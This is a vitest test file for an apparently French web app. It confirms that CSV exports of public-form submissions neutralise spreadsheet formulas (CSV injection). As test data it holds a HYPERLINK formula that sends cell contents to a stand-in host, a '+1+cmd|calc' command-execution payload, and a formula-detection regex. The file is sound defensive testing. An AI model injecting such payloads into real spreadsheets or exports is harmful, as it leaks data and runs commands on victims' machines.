import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dbKind, type TestApp, testApp } from '../../test/harness.ts';
import { onPgliteOnly } from '../../test/statements.ts';
import { validInscription } from '../features/inscriptions/inscriptions.fixtures.ts';
import { register } from '../features/partenaires/partenaires.fixtures.ts';

onPgliteOnly('formules dans les exports CSV : la neutralisation se fait en TypeScript, pas dans la base');

/**
 * A visitor types a spreadsheet formula into a public form; the agent's export must show it as
 * text (leading `'`), never as a formula (OWASP « CSV injection »).
 */
const HOSTILE = '=HYPERLINK("http://x.invalid/?"&A2;"Cliquez")';
const NEUTRALISED = `"'${HOSTILE.replaceAll('"', '""')}"`;

describe(`exports CSV : pas de formule venue d’un formulaire public (${dbKind})`, () => {
  let t: TestApp;
  let cookie: string;
  beforeAll(async () => {
    t = await testApp();
    cookie = (await t.agent(['ROLE_USER'])).cookie;
  });
  afterAll(() => t.close());

  const exportOf = async (url: string) => {
    const res = await t.app.inject({ url, headers: { cookie } });
    expect(res.statusCode).toBe(200);
    return res.body;
  };
  /** The cells of every line, split on `;` outside quotes. */
  const cells = (csv: string) => csv.split('\r\n').flatMap((line) => line.match(/("(?:[^"]|"")*"|[^;]*)/g) ?? []);

  it("inscriptions : l’adresse du propriétaire commence par « ' »", async () => {
    const body = validInscription();
    body.proprietaire.adresse = HOSTILE;
    body.proprietaire.nom = '@SOMME(1+1)';
    const res = await t.app.inject({ method: 'POST', url: '/api/inscription/add', payload: body });
    expect(res.statusCode).toBe(200);
    const csv = await exportOf('/api/admin/inscriptions/export');
    expect(csv).toContain(NEUTRALISED);
    expect(cells(csv)).toContain("'@SOMME(1+1)");
    expect(cells(csv).some((c) => /^"?[=+\-@\t\r]/.test(c))).toBe(false);
  });

  it("partenaires : la présentation et le nom commencent par « ' »", async () => {
    await register(t.app, { presentation: HOSTILE, nom: '+1+cmd|calc' });
    const csv = await exportOf('/api/admin/partenaire/export');
    expect(csv).toContain(NEUTRALISED);
    expect(cells(csv)).toContain("'+1+cmd|calc");
    expect(cells(csv).some((c) => /^"?[=+\-@\t\r]/.test(c))).toBe(false);
  });

  it("demandes étudiants : l’adresse commence par « ' »", async () => {
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/etudiant/add',
      payload: { email: 'camille@example.fr', cp: '10000', ville: 'Troyes', ecole: 'UTT', adresse: HOSTILE },
    });
    expect(res.statusCode).toBe(200);
    const csv = await exportOf('/api/admin/etudiants/export');
    expect(csv).toContain(NEUTRALISED);
    expect(cells(csv).some((c) => /^"?[=+\-@\t\r]/.test(c))).toBe(false);
  });
});
